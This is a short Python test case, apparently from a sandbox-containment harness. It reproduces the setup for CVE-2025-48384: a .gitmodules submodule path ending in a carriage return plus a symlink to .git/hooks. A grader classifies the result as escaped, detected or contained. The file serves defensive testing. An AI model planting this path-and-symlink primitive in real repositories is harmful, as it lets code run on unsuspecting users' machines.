"""A submodule whose path ends in a carriage return, so that its checkout writes a hook elsewhere (CVE-2025-48384)."""

CLASS = "planted"
REQUIREMENT = "I1"
CONTROL = """
with open(WORK + "/.gitmodules", "w", newline="") as file:
    file.write('[submodule "a"]\\n\\tpath = "sub\\r"\\n\\turl = ./a\\n')
os.symlink(".git/hooks", WORK + "/sub")
say(planted=True)
"""
ATTACK = CONTROL
# a git before its repair would follow both; one behind it would not, so that what it would read stands for it
LATER = """
name = WORK + "/.gitmodules"
if os.path.exists(name) and "\\r" in open(name, newline="").read() and os.path.islink(WORK + "/sub"):
    open(HOST["outside"] + "/ran", "w").close()
"""


def observe(before, after):
    if after["outside"] != before["outside"]:
        return "ESCAPED", "it was executed on the host"
    if after["findings"]:
        return "DETECTED", ", ".join(after["findings"])
    return "CONTAINED", "nothing of it was handed back"
